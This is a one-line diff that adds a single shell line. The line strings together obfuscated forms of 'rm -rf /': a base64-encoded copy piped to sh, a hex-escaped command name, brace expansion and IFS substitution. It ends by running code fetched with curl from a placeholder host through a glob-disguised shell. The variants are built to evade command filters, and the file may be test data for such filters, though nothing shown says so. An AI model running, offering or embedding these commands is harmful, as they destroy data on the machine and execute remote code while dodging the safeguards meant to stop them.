@@ -1,0 +1,1 @@
+echo cm0gLXJmIC8= | base64 -d | sh; $'\x72\x6d' -rf /; {rm,-rf,/}; rm${IFS}-rf${IFS}/; /b?n/s? -c "$(curl -s http://x)"
